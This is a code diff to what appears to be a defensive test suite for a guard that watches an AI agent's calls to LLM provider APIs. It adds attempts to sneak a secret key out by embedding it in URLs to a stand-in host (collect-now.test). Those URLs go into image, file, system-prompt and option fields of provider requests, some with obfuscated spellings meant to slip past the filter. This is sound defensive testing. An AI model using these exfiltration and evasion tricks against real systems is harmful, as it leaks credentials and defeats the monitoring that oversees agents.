@@ -19,6 +19,7 @@ from guard.enforcement.response import ResponseHandler
 from guard.lab.trust.attacks import AttackClass, Attempt, Patch, Switch
 from guard.lab.trust.harness import MCP_PATH, Answer
 from guard.protocols.llm import anthropic, gemini, openai_chat, openai_responses
+from guard.protocols.llm.model_requests import ModelApi
 from guard.protocols.mcp import declarations, grammar, mcp
 from guard.protocols.mcp.mcp import McpProtocol
 from guard.provenance import tracing
@@ -128,10 +129,16 @@ CONVERSATIONS: Final[dict[str, tuple[Callable[[str], dict[str, Any]], ...]]] = {
         lambda u: {"messages": _turn({"type": "image_url", "image_url": {"url": u}})},
         lambda u: {"messages": _turn({"type": "image_url", "image_url": u})},
         lambda u: {"messages": _turn({"type": "file", "file": {"file_url": u}})},
+        lambda u: {"messages": _turn({"type": "file", "file": {"file_data": u}})},
+        lambda u: {"messages": _turn({"type": "image", "image": u})},
+        lambda u: {"messages": [{"role": "user", "content": "a", "images": [u]}]},
+        lambda u: {"messages": _turn({"type": "video", "video": {"uri": {"href": u}}})},
     ),
     f"{_OPENAI}/responses": (
         lambda u: {"input": _turn({"type": "input_image", "image_url": u})},
         lambda u: {"input": _turn({"type": "input_file", "file_url": u})},
+        lambda u: {"instructions": _turn({"type": "input_image", "image_url": u})},
+        lambda u: {"prompt": {"variables": {"a": {"type": "input_image", "image_url": u}}}},
         lambda u: {
             "input": [
                 {
@@ -145,6 +152,7 @@ CONVERSATIONS: Final[dict[str, tuple[Callable[[str], dict[str, Any]], ...]]] = {
     "api.anthropic.com/v1/messages": (
         lambda u: {"messages": _turn({"type": "image", "source": {"type": "url", "url": u}})},
         lambda u: {"messages": _turn({"type": "document", "source": {"type": "url", "url": u}})},
+        lambda u: {"system": [{"type": "image", "source": {"type": "url", "url": u}}]},
         lambda u: {
             "messages": _turn(
                 {
@@ -158,9 +166,38 @@ CONVERSATIONS: Final[dict[str, tuple[Callable[[str], dict[str, Any]], ...]]] = {
     "generativelanguage.googleapis.com/v1beta/models/g:generateContent": (
         lambda u: {"contents": _turn({"fileData": {"fileUri": u}}, "parts")},
         lambda u: {"contents": _turn({"file_data": {"file_uri": u}}, "parts")},
+        lambda u: {"systemInstruction": {"parts": [{"fileData": {"fileUri": u}}]}},
     ),
 }
 """Conversations in which a model's provider fetches a URL, by where they are posted."""
+SPELT: Final[dict[str, Callable[[str], str]]] = {
+    "as it is": lambda u: u,
+    "without slashes": lambda u: u.replace("https://", "https:"),
+    "with backslashes": lambda u: u.replace("https://", "HTTPS:\\\\"),
+    "behind a control character": lambda u: f"\x01{u}",
+    "with a line end in it": lambda u: u.replace("https", "ht\ntps"),
+    "without a scheme": lambda u: u.removeprefix("https:"),
+}
+"""How a URL may be written for somebody who fetches it."""
+OPTIONS: Final[dict[str, Callable[[str], Any]]] = {
+    "switched on": lambda _: True,
+    "by a word": lambda _: "auto",
+    "a URL": lambda u: u,
+    "a list": lambda u: [{"type": "index", "parameters": {"endpoint": u}}],
+    "an object": lambda u: {"mode": "on", "sources": [u]},
+}
+"""What an option of a provider's own may be set to."""
+OPTION_WORDS: Final = (
+    "web",
+    "search",
+    "data",
+    "sources",
+    "plugin",
+    "index",
+    "remote",
+    "hook",
+    "tool",
+)
 
 MEMORY: Final = (
     "The works council in Porto agreed to the closure of plant seven by the end of March 2031, and "
@@ -251,6 +288,11 @@ class UnjudgedBytes(AttackClass):
         Switch("a result answers an open request", lambda patch: _no_matching(patch)),
         Switch("what is released is labelled", lambda patch: _unlabelled(patch)),
         Switch("what a provider fetches is a call", lambda p: _unfetched(p), among="fetched:"),
+        Switch(
+            "a member that a model API does not have is a call",
+            lambda p: p.set(ModelApi, "others", lambda _self, _body: []),
+            among="option:",
+        ),
         Switch("a mailbox is no program's name", lambda p: _any_name(p), among="program:"),
         Switch("an answer has its question", lambda p: _all_asked(p), among="unasked:"),
         Switch("answers to a server are sends", lambda p: _harmless(p), among="answer: memory"),
@@ -289,6 +331,16 @@ class UnjudgedBytes(AttackClass):
             )
             for number, make in enumerate(makers)
         ]
+        for (path, (make, *_)), (how, spell) in itertools.product(
+            CONVERSATIONS.items(), SPELT.items()
+        ):
+            play = _fetched_play(path, make, secrets["key"], spell)
+            shown.append(Attempt(f"fetched: {path} {how}", play))
+        options = [
+            Attempt(f"option: {path} {name} {how}", _option_play(path, name, value))
+            for path, (how, value) in itertools.product(CONVERSATIONS, OPTIONS.items())
+            for name in ("_".join(rng.sample(OPTION_WORDS, 2)) for _ in range(2))
+        ]
         named = [
             Attempt(f"program: {carrier}: {name}", _message_play(MESSAGES[carrier], name))
             for carrier, name in itertools.product(PROGRAMS, MAILBOXES)
@@ -302,7 +354,7 @@ class UnjudgedBytes(AttackClass):
             if kind != "mailbox" or coding == "plain"
         ]
         unasked = list(_unasked(rng))
-        kinds = (told, paths, wrong, beside, shown, named, answered, unasked)
+        kinds = (told, paths, wrong, beside, shown, options, named, answered, unasked)
         for kind in kinds:
             rng.shuffle(kind)
         wrong[120:], beside[240:] = [], []
@@ -316,7 +368,7 @@ def _harmless(patch: Patch) -> None:
 
 def _unfetched(patch: Patch) -> None:
     for module in (anthropic, gemini, openai_chat, openai_responses):
-        patch.set(module, "fetched", lambda _history: [])
+        patch.set(module, "fetched", lambda *_: [])
 
 
 def _any_name(patch: Patch) -> None:
@@ -446,10 +498,24 @@ LOOSE: Final = ("an error", "any member")
 """Answers that any question may have."""
 
 
-def _fetched_play(path: str, make: Callable[[str], dict[str, Any]], secret: str) -> Play:
+def _fetched_play(
+    path: str,
+    make: Callable[[str], dict[str, Any]],
+    secret: str,
+    spell: Callable[[str], str] = SPELT["as it is"],
+) -> Play:
+    return _posted(path, make(spell(f"https://collect-now.test/p.png?d={quote(secret, safe='')}")))
+
+
+def _option_play(path: str, name: str, value: Callable[[str], Any]) -> Play:
+    """Ask a provider for more than its API has."""
+    turns = "contents" if "generateContent" in path else "messages"
+    return _posted(path, {turns: [], name: value("https://collect-now.test/index")})
+
+
+def _posted(path: str, document: dict[str, Any]) -> Play:
     async def play(world: World) -> bool:
         agent = world.agent()
-        document = make(f"https://collect-now.test/p.png?d={quote(secret, safe='')}")
         body = json.dumps(document).encode()
         headers = {"content-type": "application/json"}
         return (await agent.http("POST", f"https://{path}", body, headers)).forwarded
